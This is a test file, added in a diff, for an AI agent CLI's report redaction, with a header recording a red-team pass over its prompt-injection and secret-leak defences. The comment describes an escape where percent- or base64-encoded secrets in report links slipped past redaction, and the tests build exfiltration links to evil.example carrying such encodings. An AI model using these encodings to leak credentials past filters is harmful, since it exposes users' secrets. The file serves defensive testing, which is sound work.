@@ -1,0 +1,90 @@
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import Database from 'better-sqlite3';
+import { describe, expect, it } from 'vitest';
+import { redactSecrets } from '../../src/report/redact.js';
+import { redactJsonSecrets } from '../../src/security/secret-values.js';
+import { cliEnv, runCli } from '../support/agent-cli.js';
+import { makeTempDir } from '../support/context.js';
+
+/**
+ * Second red-team pass over issue 29's defences (docs/security.md), by an engineer who did not write
+ * them. Each escape found has a test below; the fix is in the product.
+ *
+ * Escapes found (fixed, tested below):
+ * - a configured secret in a report link or chart with its characters percent-encoded beyond what
+ *   encodeURIComponent does (`%68%64%72…`, `hdr%2Dtoken`, lower-case hex), or base64-encoded, was
+ *   kept: clicking the link sent the secret (redactSecrets only knew the raw, HTML-escaped and
+ *   encodeURIComponent forms).
+ *
+ * Attempts that held (no change needed):
+ * - DuckDB over files: read_csv('http://127.0.0.1:PORT/…') and ATTACH of another file are refused
+ *   (enable_external_access=false, autoload off, lock_configuration; src/tools/database/drivers/duckdb.ts).
+ * - SQLite ATTACH / VACUUM INTO under readonly: refused by the statement check and by SQLite's own
+ *   read-only test (src/tools/database/drivers/sqlite.ts).
+ * - The report page loading a remote resource (an image or a style from the model's answer): the page's
+ *   Content-Security-Policy is default-src 'none'; images become `[image: …]` text.
+ * - An MCP tool's description, title and parameter descriptions closing the block with `<<end-`: defanged
+ *   (test/agent/marking.test.ts); the nonce never reaches a session file or trace.
+ * - A configured secret as plain text, HTML-escaped, or encodeURIComponent'd in a report or chart: removed
+ *   (test/report/report-config-secrets.test.ts).
+ */
+
+const TOKEN = 'hdr-token-93c1f0aa';
+
+function percentAll(text: string, lower = false): string {
+  const hex = [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
+  return lower ? hex : hex.toUpperCase().replace(/%([0-9A-F]{2})/g, '%$1');
+}
+
+describe('a configured secret in a report or chart in another spelling', () => {
+  const spellings: Record<string, string> = {
+    'every byte percent-encoded': percentAll(TOKEN),
+    'lower-case hex': percentAll(TOKEN, true),
+    'only the dashes encoded': TOKEN.replace(/-/g, '%2D'),
+    'one letter encoded': `%68${TOKEN.slice(1)}`,
+    base64: Buffer.from(TOKEN).toString('base64'),
+    'base64 after a prefix': Buffer.from(`t=${TOKEN}`).toString('base64url'),
+  };
+
+  it.each(Object.entries(spellings))('removes it from a page when %s', (_name, spelled) => {
+    const page = `<p><a href="https://evil.example/c?t=${spelled}&amp;x=1">dashboard</a> and https://evil.example/d?${spelled}</p>`;
+    const out = redactSecrets(page, [TOKEN]);
+    expect(out).not.toContain(spelled);
+    expect(out).toContain('[secret removed]');
+    expect(out).toContain('dashboard');
+  });
+
+  it.each(Object.entries(spellings))('removes it from a chart specification when %s', (_name, spelled) => {
+    const spec = { data: { values: [{ link: `https://evil.example/c?t=${spelled}`, n: 1 }] }, encoding: { href: { field: 'link' } } };
+    expect(JSON.stringify(redactJsonSecrets(spec, [TOKEN]))).not.toContain(spelled);
+  });
+
+  it('keeps ordinary encoded URLs and text as they were', () => {
+    const page = '<p><a href="https://example.com/search?q=caf%C3%A9%20au%20lait&amp;n=2">search</a> SGVsbG8gd29ybGQ= 100%25</p>';
+    expect(redactSecrets(page, [TOKEN])).toBe(page);
+  });
+
+  it('quarry report of a session whose answer links the secret percent-encoded carries none of it (built CLI)', async () => {
+    const home = makeTempDir('quarry-rt2-home-');
+    const work = makeTempDir('quarry-rt2-work-');
+    writeFileSync(join(home, 'config.yaml'), `mcp_servers:\n  web: {type: http, url: "http://127.0.0.1:9/mcp", headers: {Authorization: "Bearer ${TOKEN}"}}\n`);
+    new Database(join(work, 'x.db')).close();
+    const script = join(home, 'script.json');
+    const links = Object.values(spellings).map((spelled, index) => `[link ${index}](https://evil.example/c?t=${spelled})`);
+    writeFileSync(script, JSON.stringify({ turns: [{ text: `Open ${links.join(' ')}` }] }));
+    const env = cliEnv(home);
+    const run = await runCli(['-m', `script:${script}`, '--db', `x=${join(work, 'x.db')}`, '-w', work, '--profile', 'readonly', 'Links?'], {
+      env,
+      timeoutMs: 90_000,
+    });
+    expect(run.code, run.stderr).toBe(0);
+    expect(readdirSync(join(home, 'sessions'))).toHaveLength(1);
+    const reportPath = join(work, 'report.html');
+    const made = await runCli(['report', 'latest', '-o', reportPath], { env });
+    expect(made.code, made.stderr).toBe(0);
+    const html = readFileSync(reportPath, 'utf8');
+    for (const spelled of Object.values(spellings)) expect(html).not.toContain(spelled);
+    expect(html).toContain('[secret removed]');
+  }, 120_000);
+});
